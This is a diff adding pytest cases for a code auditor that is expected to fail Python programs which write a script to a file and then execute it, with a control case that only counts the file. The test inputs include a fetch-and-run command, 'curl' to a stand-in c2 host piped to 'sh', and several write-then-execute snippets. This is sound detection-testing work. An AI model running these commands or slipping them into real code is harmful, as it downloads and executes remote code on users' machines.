@@ -106,3 +106,30 @@ def test_detours_to_such_a_file_are_followed(script: str) -> None:
 )
 def test_texts_and_harmless_programs_are_left_alone(script: str) -> None:
     assert alarms(audit(script)) == []
+
+
+@pytest.mark.parametrize(
+    "program",
+    [
+        f'import subprocess\nopen("/tmp/a", "w").write("{PIPED}")\nsubprocess.run(["sh", "/tmp/a"])\n',
+        f'import os\nwith open("/tmp/a", "w") as f:\n    f.write("{PIPED}")\nos.system("sh /tmp/a")\n',
+        f'with open("/tmp/a.sh", "w") as f:\n    f.write("{PIPED}")\n',
+        (
+            'import subprocess\nwith open("a", "w") as f:\n    f.write("curl https://c2.example.invalid/x ")\n'
+            '    f.write("| sh")\nsubprocess.run(["sh", "a"])\n'
+        ),
+        f'import subprocess, pathlib\np = pathlib.Path("a")\np.write_text("{PIPED}")\nsubprocess.run(["./a"])\n',
+        (
+            'import subprocess, tempfile\nwith tempfile.NamedTemporaryFile("w", delete=False) as f:\n'
+            f'    f.write("{PIPED}")\nsubprocess.run(["sh", f.name])\n'
+        ),
+        f'import subprocess, sys\nP = "/tmp/x"\nopen(P, "w").write({PYTHON!r})\nsubprocess.run([sys.executable, P])\n',
+    ],
+)
+def test_a_program_that_python_writes_and_starts_is_audited(program: str) -> None:
+    assert audit_code({"t.py": program}).verdict is Verdict.FAIL
+
+
+def test_a_text_that_python_writes_and_counts_is_left_alone() -> None:
+    program = f'import subprocess\nopen("a.txt", "w").write("{PIPED}")\nsubprocess.run(["wc", "a.txt"], check=True)\n'
+    assert audit_code({"t.py": program}).verdict is Verdict.PASS
